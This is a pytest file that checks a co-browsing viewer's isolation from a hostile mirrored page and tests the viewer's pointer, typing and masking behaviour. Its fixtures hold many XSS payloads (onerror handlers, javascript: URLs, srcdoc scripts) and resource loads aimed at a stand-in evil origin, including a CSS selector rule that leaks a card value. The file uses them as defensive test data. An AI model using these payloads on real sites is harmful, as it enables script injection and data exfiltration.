"""The view against a hostile mirror (leaks.md, part K) and in the agent's hands, in a real browser.

No Content-Security-Policy stands before it here: what holds, the view's own gate holds.
"""

from collections.abc import Iterator
from typing import Any

import pytest
from cobrowse_conformance.browser.mirrors import change, element, meta, mutation, snapshot, text
from cobrowse_simulator.browsers.chromium import Chromium
from selenium.webdriver.common.keys import Keys

from tests.web.stand import Stand, open_stand, published


@pytest.fixture(scope="module")
def the_stand(agents_browser: Chromium) -> Iterator[Stand]:
    """The view in the agent's browser."""
    with open_stand(agents_browser) as stand:
        yield stand


@pytest.fixture
def stand(the_stand: Stand) -> Stand:
    """The same, with nothing on view."""
    the_stand.open()
    return the_stand


def fields(evil: str) -> list[dict[str, Any]]:
    """Everything that makes a browser load something (RP-12): each with an address of its own."""
    svg = {"isSVG": True}
    image = {**element(60, "image", href=f"{evil}/svg-image", width="9", height="9"), **svg}
    use = {**element(61, "use", href=f"{evil}/svg-use#x"), **svg}
    filtered = {**element(62, "feImage", href=f"{evil}/svg-feimage"), **svg}
    return [
        element(20, "img", src=f"{evil}/img"),
        element(21, "img", srcset=f"{evil}/srcset 1x"),
        element(22, "img", rr_dataURL=f"{evil}/dataurl"),
        element(23, "picture", [element(24, "source", srcset=f"{evil}/source"), element(25, "img")]),
        element(26, "video", src=f"{evil}/video", poster=f"{evil}/poster", preload="auto"),
        element(27, "audio", src=f"{evil}/audio", preload="auto"),
        element(28, "video", [element(29, "track", src=f"{evil}/track", default="", kind="captions")]),
        element(30, "object", data=f"{evil}/object"),
        element(31, "embed", src=f"{evil}/embed"),
        element(32, "iframe", src=f"{evil}/iframe"),
        element(33, "iframe", srcdoc=f"<img src='{evil}/srcdoc'>"),
        element(34, "input", type="image", src=f"{evil}/input-image"),
        element(35, "div", [text(36, "x")], style=f"background: url({evil}/style)"),
        element(37, "table", background=f"{evil}/background"),
        element(38, "link", rel="stylesheet", href=f"{evil}/stylesheet"),
        element(39, "link", rel="preload", as_="image", href=f"{evil}/preload"),
        element(40, "link", rel="prefetch", href=f"{evil}/prefetch"),
        element(41, "link", rel="icon", href=f"{evil}/icon"),
        element(42, "style", [text(43, f"@import url({evil}/import); b {{ background: url({evil}/css) }}")]),
        element(44, "style", [text(45, f"i {{ background: image-set('{evil}/image-set' 1x) }}")]),
        element(46, "style", _cssText=f"u {{ content: url({evil}/csstext) }}"),
        element(
            47,
            "style",
            [text(48, f"@font-face {{ font-family: f; src: url({evil}/font) }} s {{ font-family: f }}")],
        ),
        element(49, "b", [text(50, "b")]),
        element(51, "i", [text(52, "i")]),
        element(53, "u", [text(54, "u")]),
        element(55, "s", [text(56, "s")]),
        {**element(59, "svg", [image, use, filtered]), **svg},
        element(63, "script", src=f"{evil}/script"),
        element(64, "form", [element(65, "button")], action=f"{evil}/form"),
        element(66, "meta", http_equiv="refresh", content=f"0;url={evil}/refresh"),
        element(67, "base", href=f"{evil}/base/"),
        element(68, "a", [text(69, "link")], href=f"{evil}/link", ping=f"{evil}/ping"),
        element(70, "frameset", [element(71, "frame", src=f"{evil}/frame")]),
        element(72, "body", background=f"{evil}/body"),
        element(73, "x-card", [text(74, "card")], src=f"{evil}/custom"),
        element(75, "input", value="4111", class_="card"),
        element(76, "style", [text(77, f".card[value^='4'] {{ background: url({evil}/exfiltrated) }}")]),
    ]


def as_html(nodes: list[dict[str, Any]]) -> str:
    """The same as a document that a browser just loads: the control, without the view."""
    said = []
    for node in nodes:
        if node["type"] == 3:
            said.append(node["textContent"])
            continue
        given = {
            name: value
            for name, value in node["attributes"].items()
            if name not in ("_cssText", "rr-dataURL")
        }
        attributes = "".join(f' {name}="{value}"' for name, value in given.items())
        said.append(f"<{node['tagName']}{attributes}>{as_html(node['childNodes'])}</{node['tagName']}>")
    return "".join(said)


def test_a_mirror_loads_nothing(stand: Stand) -> None:
    """Whatever a mirror holds, the agent's browser asks nobody for anything (RP-12, RP-13, RP-14, SECURE-5)."""
    body = fields(stand.evil.origin)
    stand.page(*body, elements=[])
    stand.show(
        mutation(attributes=[{"id": 25, "attributes": {"src": f"{stand.evil.origin}/later"}}]),
        mutation(
            attributes=[
                {"id": 35, "attributes": {"style": {"background": f"url({stand.evil.origin}/piece)"}}}
            ]
        ),
        mutation(texts=[{"id": 43, "value": f"b {{ background: url({stand.evil.origin}/text) }}"}]),
        mutation(
            adds=[
                {"parentId": 5, "nextId": None, "node": element(90, "img", src=f"{stand.evil.origin}/added")}
            ]
        ),
        change(8, id=42, adds=[{"rule": f"p {{ background: url({stand.evil.origin}/rule) }}", "index": 0}]),
        change(10, family="f", fontSource=f"url({stand.evil.origin}/fontface)", buffer=False),
        change(
            15,
            id=1,
            styleIds=[1],
            styles=[
                {"styleId": 1, "rules": [{"rule": f"* {{ background: url({stand.evil.origin}/adopted) }}"}]}
            ],
        ),
    )
    stand.settle()
    stand.sees("card")
    stand.browser.open(f"{stand.evil.origin}/fence")

    assert ["/fence"] == [path for path in stand.evil.asked if path != "/favicon.ico"]


def test_the_same_page_does_load_where_nothing_is_taken_out(stand: Stand) -> None:
    """The control: the page of the test above, loaded as it is, asks for nearly all of it."""
    html = as_html(
        [one for one in fields(stand.evil.origin) if one["tagName"] not in ("meta", "base", "frameset")]
    )
    stand.evil.pages["/control"] = ("text/html", f"<!doctype html>{html}".encode())
    try:
        stand.browser.open(f"{stand.evil.origin}/control")
        loaded = {
            *(
                "/img",
                "/srcset",
                "/video",
                "/poster",
                "/object",
                "/embed",
                "/iframe",
                "/srcdoc",
                "/input-image",
            ),
            *(
                "/style",
                "/stylesheet",
                "/preload",
                "/import",
                "/css",
                "/image-set",
                "/font",
                "/svg-image",
                "/script",
            ),
            *("/background", "/exfiltrated"),
        }
        stand.browser.sees(lambda: loaded <= set(stand.evil.asked), "the control's requests")
    finally:
        del stand.evil.pages["/control"]


HANDLERS = "window.top.hacked = parent.hacked = window.hacked = 1; alert(1)"


def test_a_mirror_runs_nothing(stand: Stand) -> None:
    """No script of a mirror runs, by whatever way it comes (RP-01, RP-02, RP-03, RP-06, RP-10, RP-21)."""
    stand.page(
        element(20, "script", [text(21, HANDLERS)]),
        element(22, "img", src="x", onerror=HANDLERS),
        element(23, "svg", [element(24, "script", [text(25, HANDLERS)])], onload=HANDLERS),
        element(26, "iframe", srcdoc=f"<script>{HANDLERS}</script>"),
        element(27, "iframe", src=f"javascript:{HANDLERS}"),
        element(28, "body", onload=HANDLERS, onpageshow=HANDLERS),
        element(29, "details", [text(30, "open")], open="", ontoggle=HANDLERS),
        element(31, "input", autofocus="", onfocus=HANDLERS),
        element(32, "style", [text(33, "@keyframes k { to { color: red } } * { animation: k 1ms }")]),
        element(34, "p", [text(35, "moved")], onanimationend=HANDLERS),
        {**element(36, "evil-element", [text(37, "custom")]), "isCustom": True},
        element(38, "a", [text(39, "press me")], href=f"javascript:{HANDLERS}", onclick=HANDLERS),
    )
    stand.write()
    stand.click("a")
    stand.show(
        mutation(attributes=[{"id": 34, "attributes": {"onclick": HANDLERS, "onanimationstart": HANDLERS}}])
    )
    stand.settle()

    hacked = "return [window.hacked, parent.hacked].filter((one) => one !== undefined).length"
    assert [0, 0] == [
        stand.outside("return 'hacked' in window ? 1 : 0"),
        stand.browser.script("return 'hacked' in window ? 1 : 0"),
    ]
    assert 0 == stand.inside(hacked)
    assert stand.inside("return window.customElements.get('evil-element') === undefined")
    assert "allow-same-origin" == stand.outside(
        "return document.querySelector('#mirror iframe').getAttribute('sandbox')"
    )


def test_nothing_in_the_mirror_can_be_used_by_the_agents_own_browser(stand: Stand) -> None:
    """Links lead nowhere, forms go nowhere, nothing is selected, dragged or focused (RP-15, RP-18)."""
    stand.page(
        element(20, "a", [text(21, "away")], href=stand.evil.origin, target="_top", style="font-size: 40px"),
        element(
            22,
            "form",
            [element(23, "input", name="q"), element(24, "button", [text(25, "Send")])],
            action=stand.evil.origin,
        ),
    )
    windows = len(stand.browser.driver.window_handles)
    before = stand.inside("return location.href")
    for mode in ("pointer", "write"):
        stand.tell("mode", mode=mode, scope="")
        stand.click("a")
        stand.click("button")
        at = stand.middle("a")
        for button in ("middle", "right"):
            for kind in ("mousePressed", "mouseReleased"):
                stand.browser.cdp(
                    "Input.dispatchMouseEvent", type=kind, x=at.x, y=at.y, button=button, clickCount=1
                )
    stand.settle()

    assert [] == stand.evil.asked
    assert windows == len(stand.browser.driver.window_handles)
    assert before == stand.inside("return location.href")
    assert stand.inside("return document.activeElement === document.body && getSelection().isCollapsed")


def test_the_keyboard_never_gets_into_the_mirror(stand: Stand) -> None:
    """However often Tab is pressed, no mirrored field has the focus, so nothing fills it in (RP-18)."""
    stand.page(
        element(20, "input", type="password", value="****"), element(21, "input"), element(22, "a", href="#")
    )
    stand.click("body")
    for _ in range(6):
        stand.browser.keys(Keys.TAB)

        assert stand.inside("return document.activeElement === document.body")
    assert "text" == stand.inside("return document.querySelector('input').type")


def test_the_view_has_the_size_of_the_customers_window(stand: Stand) -> None:
    """Never rescaled: scroll bars where it does not fit, and a resize follows (VIEW-1, VIEW-2, VIEW-3)."""
    stand.page(element(20, "p", [text(21, "wide")]), size=(2400, 1800))
    size = "const one = document.querySelector('#mirror iframe'); return [one.clientWidth, one.clientHeight]"
    bars = "const one = document.querySelector('#scroller'); return one.scrollWidth > one.clientWidth && one.scrollHeight > one.clientHeight"

    assert ([2400, 1800], True) == (stand.outside(size), stand.outside(bars))
    assert [2400, 1800] == stand.inside("return [innerWidth, innerHeight]")
    stand.show(change(4, width=640, height=480))
    stand.settle()
    assert ([640, 480], False) == (stand.outside(size), stand.outside(bars))
    assert {"width": 640, "height": 480}.items() <= stand.last("shown").items()


def tall(height: int = 3000) -> dict[str, Any]:
    """Something that makes a page so high."""
    return element(
        80, "div", [text(81, "tall")], style=f"height: {height}px; background: linear-gradient(red, blue)"
    )


def test_the_customers_scroll_position_is_mirrored(stand: Stand) -> None:
    """Where the customer is on the page, the agent is, at once (VIEW-4)."""
    smooth = element(90, "style", [text(91, "html { scroll-behavior: smooth }")])
    stand.page(tall(), head=[smooth])
    stand.show(change(3, id=1, x=0, y=700))
    stand.settle()

    assert 700 == stand.inside("return document.scrollingElement.scrollTop")


def wheel(stand: Stand, dy: int) -> None:
    """Turn the wheel over the view."""
    at = stand.place(200, 200)
    stand.browser.cdp("Input.dispatchMouseEvent", type="mouseWheel", x=at.x, y=at.y, deltaX=0, deltaY=dy)


def test_panning_in_pointer_mode_stays_here(stand: Stand) -> None:
    """In Pointer Mode the wheel moves what the agent looks at, and nothing at the customer's end (VIEW-4)."""
    stand.page(tall(), size=(900, 2400))
    wheel(stand, 300)
    stand.browser.sees(
        lambda: stand.outside("return document.querySelector('#scroller').scrollTop") > 0, "panning"
    )
    stand.settle()

    assert [] == stand.acts()
    assert 0 == stand.inside("return document.scrollingElement.scrollTop")


def test_the_wheel_scrolls_the_customers_page_in_write_mode(stand: Stand) -> None:
    """In Write Mode the wheel is an act, and the mirror follows the customer's page, not the wheel."""
    stand.page(tall())
    stand.write()
    wheel(stand, 300)
    stand.browser.sees(lambda: stand.acts() != [], "an act")

    assert [{"type": "scroll", "x": 0, "y": 300}] == stand.acts()
    assert 0 == stand.inside("return document.scrollingElement.scrollTop")


def test_clicks_and_moves_are_places_of_the_customers_viewport(stand: Stand) -> None:
    """In Pointer Mode a click is a click and a move a move, in the customer's CSS pixels (POINTER-3, POINTER-4)."""
    stand.page(element(20, "button", [text(21, "Press")]))
    at = stand.place(321, 123)
    stand.browser.mouse(at)
    stand.browser.sees(
        lambda: stand.said("click") != [] and stand.said("pointer") != [], "a click and a move"
    )

    assert [{"type": "click", "x": 321, "y": 123}] == stand.said("click")
    assert {"type": "pointer", "x": 321, "y": 123} == stand.last("pointer")
    assert [] == stand.acts()


def test_both_hands_show(stand: Stand) -> None:
    """The customer's pointer and the red circle show where they are (POINTER-3, POINTER-4)."""
    stand.page(element(20, "p", [text(21, "here")]))
    stand.tell("pointer", x=40, y=50)
    stand.tell("circle", x=200, y=100)
    stand.settle()
    with stand.browser.frame("#view"):
        circle = stand.browser.find(".circle")
        place = stand.browser.script(
            "const [one, stage] = ['.circle', '#stage'].map((name) => document.querySelector(name).getBoundingClientRect());"
            "return [one.left + one.width / 2 - stage.left, one.top + one.height / 2 - stage.top].map(Math.round)"
        )
        red = circle.value_of_css_property("border-top-color")
    pointer = stand.outside(
        "const one = document.querySelector('#customer-pointer'); return [one.hidden, one.style.transform]"
    )

    assert ([200, 100], "rgba(229, 0, 43, 1)") == (place, red)
    assert [False, "translate(40px, 50px)"] == pointer


def test_a_blank_view_holds_nothing(stand: Stand) -> None:
    """Blanked, nothing of the page is left, and increments bring none of it back (SITE-1, STOP-2)."""
    stand.page(element(20, "p", [text(21, "secret")]))
    stand.sees("secret")
    stand.tell("blank")
    stand.show(mutation(texts=[{"id": 21, "value": "secret"}]), meta(300, 300))
    stand.tell("pointer", x=1, y=1)
    stand.settle()

    assert "" == stand.text()
    assert not stand.outside("return document.documentElement.outerHTML.includes('secret')")
    assert stand.outside(
        "return document.querySelector('#page').hidden && !document.querySelector('#mirror iframe')"
    )


def test_malformed_events_are_dropped_and_told(stand: Stand) -> None:
    """What is malformed is thrown away, with a count; what is sound goes on."""
    stand.page(element(20, "p", [text(21, "before")]))
    stand.show({"type": 3}, mutation(texts=[{"id": 21, "value": "after"}]), {"type": 2, "data": {}})
    stand.sees("after")

    assert [{"type": "malformed", "count": 2}] == stand.said("malformed")


def test_names_cannot_break_the_view(stand: Stand) -> None:
    """Fields named like the document's own properties are shown like any other."""
    names = ("appendChild", "childNodes", "parentNode", "style", "setAttribute", "documentElement", "head")
    fields_ = [element(30 + at, "input", id=name, name=name, value=name) for at, name in enumerate(names)]
    stand.page(
        element(20, "form", fields_),
        element(21, "img", name="body", alt="x"),
        element(22, "p", [text(23, "end")]),
    )
    adds = [
        {"parentId": 20, "nextId": None, "node": element(50, "b", [])},
        {"parentId": 50, "nextId": None, "node": text(51, "added")},
    ]
    stand.show(mutation(adds=adds))
    stand.sees("added")

    assert len(names) == stand.inside("return document.querySelectorAll('input').length")


def test_a_giant_mirror_leaves_the_view_alive(stand: Stand) -> None:
    """Too deep, too many, too large: the view shows what it can, and goes on."""
    deep: dict[str, Any] = text(9999, "bottom")
    for ref in range(10_000, 10_400):
        deep = element(ref, "div", [deep])
    stand.page(element(20, "p", [text(21, "alive")]), deep, elements=[], size=(10**6, 10**6))
    stand.show(mutation(texts=[{"id": 21, "value": "still alive"}]))
    stand.sees("still alive")

    assert "bottom" not in stand.text()


def test_a_stranger_gets_no_port(stand: Stand) -> None:
    """Only the window that frames it, at an origin of the workspace, hands the view a port, and only once."""
    stand.page(element(20, "p", [text(21, "first")]))
    stand.browser.driver.switch_to.default_content()
    stand.browser.script("window.second = window.hand(); window.second.postMessage({ type: 'blank' })")
    stand.settle()

    assert "first" == stand.text()
    assert 1 == len(stand.said("ready"))


# In the agent's hands


def form(*, masked: bool = False) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """A form with one of each, and how it is published."""
    body = [
        element(20, "label", [text(21, "City")], for_="city"),
        element(22, "input", id="city", value="Bern"),
        element(23, "textarea", id="notes", value="one"),
        element(24, "input", id="news", type="checkbox"),
        element(
            25,
            "select",
            [
                element(26, "option", [text(27, "12")], value="12", selected=True),
                element(28, "option", [text(29, "24")], value="24"),
            ],
            id="term",
        ),
        element(30, "button", [text(31, "Go"), element(32, "em", [text(33, "on")])], id="go"),
    ]
    elements = published(*body)
    for one in elements:
        one["masked"] = masked and one["ref"] == "22"
    return body, elements


def editor(stand: Stand) -> list[Any]:
    """The editor's value, and whether it has the focus; empty where there is none."""
    found: list[Any] = stand.outside(
        "const one = document.querySelector('#editor'); return one ? [one.value, document.activeElement === one] : []"
    )
    return found


def test_typing_goes_out_with_the_version_that_was_seen(stand: Stand) -> None:
    """Each letter is an act on the field, with its version from the counted Input events (WRITE-14)."""
    body, elements = form()
    stand.page(*body, elements=elements)
    stand.write()
    stand.show(change(5, id=22, text="Berne", isChecked=False))
    stand.settle()
    stand.click("#city")
    stand.browser.keys("!")
    stand.browser.sees(lambda: len(stand.acts()) == 2, "two acts")

    assert [
        {"type": "press", "element": "22"},
        {"type": "type", "element": "22", "value": "Berne!", "version": 2},
    ] == stand.acts()
    assert ["Berne!", True] == editor(stand)
    assert "Berne" == stand.inside("return document.querySelector('#city').value")


def test_what_is_typed_stays_until_its_fate_is_known_then_the_customers_value_does(stand: Stand) -> None:
    """Local echo, then convergence: in the end the editor shows what the customer's page holds (WRITE-14)."""
    body, elements = form()
    stand.page(*body, elements=elements)
    stand.write()
    stand.click("#city")
    stand.browser.keys("X")
    stand.browser.sees(lambda: len(stand.acts()) == 2, "two acts")
    stand.show(change(5, id=22, text="Basel", isChecked=False))
    stand.settle()
    meanwhile = editor(stand)
    stand.tell("outcome", act=stand.last("act")["number"], done=False)
    stand.settle()

    assert (["BernX", True], ["Basel", True]) == (meanwhile, editor(stand))


def test_a_masked_field_is_explained_and_not_opened(stand: Stand) -> None:
    """Nothing can be typed into a masked field, and the agent is told why (MASK-7)."""
    body, elements = form(masked=True)
    stand.page(*body, elements=elements)
    stand.write()
    stand.click("#city")
    stand.browser.keys("x")
    stand.settle()

    assert ([], [], [{"type": "explain", "reason": "masked"}]) == (
        editor(stand),
        stand.acts(),
        stand.said("explain"),
    )


def test_a_field_stays_open_while_the_same_page_is_shown_anew(stand: Stand) -> None:
    """What is typed meanwhile goes out when the page is here; on another page the field is closed."""
    body, elements = form()
    stand.page(*body, elements=elements)
    stand.write()
    stand.click("#city")
    stand.tell("page", page="again", url="https://bank.example/", elements=elements)
    stand.settle()
    stand.browser.keys("!")
    stand.show(meta(900, 700), snapshot(*body))
    stand.browser.sees(
        lambda: stand.last("act").get("page") == "again", "the act on the page that is shown anew"
    )

    assert {"type": "type", "element": "22", "value": "Bern!", "version": 1} == stand.last("act")["act"]
    assert ["Bern!", True] == editor(stand)
    stand.page(*body, elements=elements, url="https://bank.example/other")
    assert [] == editor(stand)


def test_controls_become_acts(stand: Stand) -> None:
    """A check box is chosen on or off, a button pressed, whatever in it was hit, a select chosen from."""
    body, elements = form()
    stand.page(*body, elements=[one for one in elements if one["ref"] != "32"])
    stand.write()
    stand.click("#news")
    stand.click("#go em")
    stand.click("#term")
    stand.browser.keys("2")
    stand.browser.sees(lambda: len(stand.acts()) == 3, "three acts")

    assert [
        {"type": "choose", "element": "24", "value": "on", "version": 1},
        {"type": "press", "element": "30"},
        {"type": "choose", "element": "25", "value": "24", "version": 1},
    ] == stand.acts()


def test_in_a_list_of_several_each_option_is_chosen_by_itself(stand: Stand) -> None:
    """What is chosen shows on either side, and a click leaves the other options as they are."""
    options = [
        element(51, "option", [text(52, "Savings")], value="a", selected=True),
        element(53, "option", [text(54, "Cards")], value="b"),
        element(55, "option", [text(56, "Loans")], value="c", selected=True),
    ]
    several = {"id": "several", "multiple": True, "size": "3", "value": "a", "style": "font: 20px serif"}
    listed = element(50, "select", options, **several)
    stand.page(listed, elements=[one for one in published(listed) if one["ref"] == "50"])
    stand.write()
    chosen = "return [...document.querySelectorAll('select option')].map((one) => one.selected)"
    before = stand.inside(chosen)
    stand.click("#several")  # opens the field of the view's own, over its second option
    stand.browser.sees(lambda: stand.outside(chosen) == [True, False, True], "the list to choose from")
    stand.browser.mouse(stand.middle("#several"))
    stand.browser.sees(lambda: len(stand.acts()) == 1, "an act")
    shown = stand.outside(chosen)
    changes = [{"id": 53, "attributes": {"selected": True}}, {"id": 51, "attributes": {"selected": None}}]
    stand.show(
        mutation(attributes=changes),
        change(5, id=50, text="b", isChecked=False),
    )
    stand.settle()

    assert [True, False, True] == before
    assert [True, True, True] == shown
    assert [{"type": "choose", "element": "50", "value": "b", "version": 1}] == stand.acts()
    assert [False, True, True] == stand.inside(chosen)


def test_the_keyboard_is_enough(stand: Stand) -> None:
    """Tab goes from one control to the next, typing types, Enter and Space press, Escape leaves."""
    body, elements = form()
    stand.page(*body, elements=elements)
    stand.write()
    stand.click("body")
    stand.browser.keys(
        Keys.TAB, "!", Keys.ENTER, Keys.TAB, Keys.TAB, Keys.SPACE, Keys.TAB, Keys.TAB, Keys.ENTER
    )
    stand.browser.sees(lambda: len(stand.acts()) == 4, "four acts")

    assert [
        {"type": "type", "element": "22", "value": "Bern!", "version": 1},
        {"type": "press_key", "element": "22", "key": "Enter"},
        {"type": "press_key", "element": "24", "key": "Space"},
        {"type": "press_key", "element": "30", "key": "Enter"},
    ] == stand.acts()


def test_a_click_in_pointer_mode_uses_nothing(stand: Stand) -> None:
    """In Pointer Mode fields do not open and keys do nothing (POINTER-2)."""
    body, elements = form()
    stand.page(*body, elements=elements)
    stand.click("#city")
    stand.browser.keys("x", Keys.ENTER)
    stand.settle()

    assert ([], []) == (editor(stand), stand.acts())


def test_pointer_mode_closes_what_was_open(stand: Stand) -> None:
    """When Write Mode ends, the field that was being edited closes at once (WRITE-12)."""
    body, elements = form()
    stand.page(*body, elements=elements)
    stand.write()
    stand.click("#city")
    stand.tell("mode", mode="pointer", scope="")
    stand.settle()

    assert [] == editor(stand)


def test_no_act_names_an_element_of_a_page_that_is_not_on_view_yet(stand: Stand) -> None:
    """Between a page's announcement and its content, a click uses nothing: it would hit the page before."""
    body, elements = form()
    stand.page(*body, elements=elements)
    stand.write()
    stand.tell("page", page="next", url="https://bank.example/", elements=elements)
    at = stand.middle("#go")
    stand.settle()
    stand.browser.mouse(at)
    stand.show(meta(900, 700), snapshot(*body))
    stand.browser.sees(lambda: stand.last("shown").get("page") == "next", "the next page")
    stand.click("#go")

    assert [("next", {"type": "press", "element": "30"})] == [
        (one["page"], one["act"]) for one in stand.said("act")
    ]


def test_shadow_roots_and_frames_are_seen_through(stand: Stand) -> None:
    """What is in a shadow root or in a frame of the page can be pointed at like all else."""
    inner = {**element(41, "button", [text(42, "In the shadow")], id="shady"), "isShadow": True}
    host = {**element(40, "div", [inner]), "isShadowHost": True}
    frame = element(50, "iframe", width="300", height="100")
    framed = element(53, "html", [element(54, "body", [element(55, "button", [text(56, "In the frame")])])])
    document = {"type": 0, "id": 52, "childNodes": [framed]}
    stand.page(host, frame, elements=published(inner, framed))
    stand.show(mutation(adds=[{"parentId": 50, "nextId": None, "node": document}]))
    stand.write()
    stand.settle()
    script = (
        "const box = (one) => { const {left, top, width, height} = one.getBoundingClientRect(); return [left + width / 2, top + height / 2] };"
        "const frame = document.querySelector('iframe'); const f = frame.getBoundingClientRect();"
        "const [x, y] = box(frame.contentDocument.querySelector('button'));"
        "return [box(document.querySelector('div').shadowRoot.querySelector('button')), [f.left + frame.clientLeft + x, f.top + frame.clientTop + y]]"
    )
    for place in stand.inside(script):
        stand.browser.mouse(stand.place(*place))
    stand.browser.sees(lambda: len(stand.acts()) == 2, "two acts")

    assert [{"type": "press", "element": "41"}, {"type": "press", "element": "55"}] == stand.acts()


def test_what_write_mode_is_asked_for_can_be_pointed_out(stand: Stand) -> None:
    """A click on a field names the field, a click beside it the form that it is in (WRITE-15)."""
    fieldset = element(
        20,
        "form",
        [element(21, "p", [text(22, "Beside")]), element(23, "input", id="city")],
        style="padding: 40px",
    )
    elements = [{**one, "form": "20"} for one in published(fieldset)]
    stand.page(fieldset, elements=elements)
    for selector in ("#city", "p"):
        stand.tell("choose_scope", on=True)
        stand.settle()
        before = len(stand.said("scope"))
        stand.browser.mouse(stand.middle(selector))
        stand.browser.sees(lambda before=before: len(stand.said("scope")) > before, "a choice")  # type: ignore[misc]

    assert ["23", "20"] == [one["element"] for one in stand.said("scope")]
    assert [] == stand.said("click")


def test_the_agent_is_shown_what_is_the_customers_alone(stand: Stand) -> None:
    """Over what agents cannot use the pointer says so, with the reason as a tooltip."""
    body, elements = form(masked=True)
    for one in elements:
        one["submits"] = ["press"] if one["ref"] == "30" else []
        one["disabled"] = one["ref"] == "24"
    stand.page(*body, elements=elements)
    stand.write()
    shown = []
    for selector in ("#city", "#go", "#news", "#notes"):
        stand.point(selector)
        shown.append(
            stand.outside(
                "const one = document.querySelector('#stage'); return [one.style.cursor, one.title]"
            )
        )

    assert [
        ["not-allowed", "Masked: only the customer can read and change this"],
        ["not-allowed", "Only the customer can submit this form"],
        ["not-allowed", "Disabled for agents: only the customer can use this"],
        ["text", ""],
    ] == shown


def test_placeholders_have_the_size_of_what_they_stand_for(stand: Stand) -> None:
    """What was blocked is an empty box of its size (MASK-12)."""
    stand.page(
        {**element(20, "div"), "attributes": {"class": "rr-block", "rr_width": "123px", "rr_height": "45px"}}
    )

    assert [123, 45] == stand.inside(
        "const one = document.querySelector('div'); return [one.offsetWidth, one.offsetHeight]"
    )


def test_a_dialog_of_the_page_takes_no_focus(stand: Stand) -> None:
    """A modal dialog on the customer's page is drawn, and the agent's keyboard stays where it was."""
    stand.page(
        {
            **element(20, "dialog", [element(21, "input")]),
            "attributes": {"open": True, "rr_open_mode": "modal"},
        }
    )

    is_drawn = "const one = document.querySelector('dialog'); return [one.open, one.matches(':modal')]"
    assert [True, False] == stand.inside(is_drawn)
    assert stand.inside("return document.activeElement === document.body")
